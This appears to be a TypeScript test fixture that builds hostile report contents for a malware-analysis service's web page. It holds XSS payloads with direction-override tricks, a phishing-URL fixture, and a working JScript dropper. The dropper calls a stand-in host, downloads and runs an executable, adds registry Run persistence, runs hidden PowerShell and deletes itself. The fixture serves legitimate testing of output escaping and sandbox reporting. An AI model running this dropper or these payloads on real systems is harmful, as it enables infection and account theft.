/** A report page full of attacks. Every text that comes from a file, a script or a server is one. */
import { createHash } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { DEFAULT_ENGINE_LIMITS } from '../../lib/engines/engine.ts';
import { detonateFile } from '../../lib/engines/script/detonate-file.ts';
import type { UrlAnalysis } from '../../lib/service/contract/v3-url-report.ts';
import { outcomeOf } from '../../lib/service/server/jobs/report-outcome.ts';
import type { HtmlReportContents } from '../../lib/service/server/report-page/report-page.tsx';
import { storeDynamic } from '../../lib/service/server/store/dynamic-record.ts';
import { createMemoryBlobs } from '../../lib/service/server/store/memory-blobs.ts';
import { type StoredReport, scheduledReport } from '../../lib/service/server/store/submissions.ts';
import { storedSubmission } from './stored-submission.ts';

/** A text that ends an element, an attribute and a style, and holds a script, an image, a link, a change of direction and a control. */
export const ATTACK =
  '"\'></td></style><script>alert(1)</script><img src=x onerror=alert(1)> <a href="https://evil.example/x">a</a> javascript:alert(1) \u202egpj.exe\u0007\u200b http://198.51.100.7/p a@evil.example';

const hashesOf = (text: string) => {
  const digest = (name: string) => createHash(name).update(text).digest('hex');
  return { md5: digest('md5'), sha1: digest('sha1'), sha256: digest('sha256') };
};

const FINDING = {
  id: ATTACK,
  name: ATTACK,
  description: `${ATTACK} (${ATTACK})`,
  level: 'malicious',
  score: 90,
  rule: ATTACK,
  techniques: [ATTACK],
  where: ATTACK,
  evidence: ATTACK.repeat(40),
} as const;

const completed = (type: StoredReport['type']): StoredReport => ({
  ...scheduledReport(type),
  status: 'completed',
  level: 'malicious',
  score: 90,
  findings: [FINDING],
  removed: [ATTACK],
  sanitized: [ATTACK],
  details: Array.from({ length: 250 }, () => ({ kind: ATTACK, action: 'removed', where: ATTACK }) as const),
  engineVersion: ATTACK,
  durationSeconds: 1.5,
});

/** Every report with every list, and one that failed. */
export function hostileContents(): HtmlReportContents {
  const url: UrlAnalysis = {
    level: 'malicious',
    status: 'completed',
    generalInfo: { url: ATTACK, domain: ATTACK, websiteTitle: ATTACK },
    screenshot: { available: true },
    ipInfo: null,
    dnsRecords: [{ type: ATTACK, records: [ATTACK, '2001:db8::1'] }],
    whois: null,
    sslCertificate: {
      subject: ATTACK,
      issuer: ATTACK,
      renewedAt: 8e15,
      expiresAt: 9e99,
      serialNumber: ATTACK,
      fingerprint: ATTACK,
    },
    responseHeaders: { [ATTACK]: ATTACK },
    extractedFile: null,
    threatAnalysis: { overview: [], blacklist: false, threatDetails: [] },
    pages: [ATTACK, 'https://evil.example/next'],
  };
  const base = storedSubmission({ filename: ATTACK, level: 'malicious' });
  const event = { pid: 1, target: ATTACK, detail: ATTACK, timeMs: 5 };
  return {
    submission: {
      ...base,
      reports: [
        ...(['dynamic', 'static', 'cdr', 'url_analysis'] as const).map(completed),
        { ...scheduledReport('open_in_browser'), status: 'error', error: { code: 'no_environment', message: ATTACK } },
      ],
      artifacts: [{ kind: 'dropped_file', untrustedName: ATTACK, size: 5, hashes: hashesOf('x'), source: 'dynamic' }],
      dynamic: {
        environment: ATTACK,
        sha256: '',
        size: 1,
        eventCount: 1,
        requestCount: 1,
        hostCount: 1,
        urls: ['https://evil.example/second?x=<script>'],
      },
    },
    dynamic: {
      processes: [
        { pid: 1, ppid: 0, name: ATTACK, commandLine: ATTACK, timeMs: 0 },
        { pid: 2, ppid: 1, name: ATTACK, commandLine: ATTACK, timeMs: 0 },
      ],
      events: (['file', 'registry', 'code'] as const).map((type, id) => ({ ...event, id, type, operation: ATTACK })),
      requests: [{ pid: 1, method: ATTACK, url: ATTACK, host: ATTACK, port: 80, timeMs: 1 }],
    },
    url,
    screenshot: Buffer.from(ATTACK),
  };
}

export const PICTURE_COLOUR = [0x2a, 0x9d, 0x8f] as const;
/** A picture of 900 by 600 points in one colour. */
export const PICTURE = pngOf(900, 600, PICTURE_COLOUR);

function pngOf(width: number, height: number, colour: readonly number[]): Uint8Array {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.alloc(1), ...Array.from({ length: width }, () => Buffer.from(colour))]);
  const rows = Buffer.concat(Array.from({ length: height }, () => row));
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([start, chunk('IHDR', head), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

/** A visited page that imitates another. Its URL and title change the direction of the text. */
export function visitedContents(): HtmlReportContents {
  const at = 'https://secure-login.evil.example/account/\u202everify?id=1';
  const url: UrlAnalysis = {
    level: 'malicious',
    status: 'completed',
    generalInfo: { url: at, domain: 'secure-login.evil.example', websiteTitle: 'Sign in to your account' },
    screenshot: { available: true },
    ipInfo: null,
    dnsRecords: [{ type: 'A', records: ['198.51.100.7'] }],
    whois: null,
    sslCertificate: null,
    responseHeaders: { 'content-type': 'text/html', 'x-long': 'a'.repeat(2_000) },
    extractedFile: null,
    threatAnalysis: { overview: [], blacklist: false, threatDetails: [] },
    pages: [at, 'https://evil.example/next'],
  };
  const base = storedSubmission({ filename: null, level: null });
  const finding = { ...FINDING, id: 'url-password-elsewhere', name: 'Password sent to another site', rule: null };
  const texts = {
    description: 'A form sends a password to another domain.',
    where: at,
    evidence: at,
    techniques: ['T1566.002'],
  };
  return {
    submission: {
      ...base,
      kind: 'url',
      subject: { type: 'url', url: at },
      reports: [{ ...completed('url_analysis'), findings: [{ ...finding, ...texts }], engineVersion: 'url-2.0.0' }],
    },
    dynamic: null,
    url,
    screenshot: PICTURE,
  };
}

const SCRIPT = `
var shell = new ActiveXObject('WScript.Shell');
var http = new ActiveXObject('MSXML2.XMLHTTP');
http.open('GET', 'http://stage.delivery.example:8080/update/payload.exe?id=' + shell.ExpandEnvironmentStrings('%COMPUTERNAME%'), false);
http.send();
var stream = new ActiveXObject('ADODB.Stream');
stream.Type = 1; stream.Open(); stream.Write(http.responseBody);
var path = shell.ExpandEnvironmentStrings('%APPDATA%') + '\\\\svc-update.exe';
stream.SaveToFile(path, 2);
shell.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Updater', path, 'REG_SZ');
eval(unescape('%73hell.Run%28%22powershell%20-w%20hidden%20-enc%20ZQBjAGgAbwA%3D%22%2C%200%29'));
WScript.Sleep(120000);
shell.Run('"' + path + '" /quiet', 0);
new ActiveXObject('Scripting.FileSystemObject').DeleteFile(WScript.ScriptFullName);
`;

/** A page as an analyst sees it, of a script that was really run and whose disarm failed. */
export async function dropperContents(): Promise<HtmlReportContents> {
  const name = 'Invoice_2026-117_\u202efdp.js';
  const input = { bytes: Buffer.from(SCRIPT), untrustedName: name, password: null };
  const report = await detonateFile(input, DEFAULT_ENGINE_LIMITS);
  if (report.outcome === 'failed') throw new Error(report.failure.message);
  const produced = await storeDynamic(createMemoryBlobs(1e8), report);
  const base = storedSubmission({ filename: name, text: SCRIPT, level: 'malicious' });
  const subject = base.subject.type === 'file' ? base.subject : null;
  if (!subject) throw new Error('not a file');
  const detectedType = { type: 'text/javascript', extension: 'js', description: 'JavaScript' };
  const [ofStatic] = base.reports;
  return {
    submission: {
      ...base,
      ...produced,
      subject: { ...subject, detectedType },
      uuid: '6f1d2c34-5a7b-4c8d-9e0f-112233445566',
      kind: 'sandbox',
      reports: [
        { ...outcomeOf('dynamic', report, 1_000).report, durationSeconds: 0.084 },
        {
          ...(ofStatic ?? scheduledReport('static')),
          findings: [],
          level: 'unknown',
          score: 0,
          engineVersion: 'static-2.0.0',
          durationSeconds: 0.012,
        },
        {
          ...scheduledReport('cdr'),
          status: 'error',
          error: { code: 'unsupported', message: 'no module handles JavaScript' },
          engineVersion: 'disarm-1.0.0',
        },
      ],
    },
    dynamic: { processes: report.processes, events: report.events, requests: report.requests },
    url: null,
    screenshot: null,
  };
}
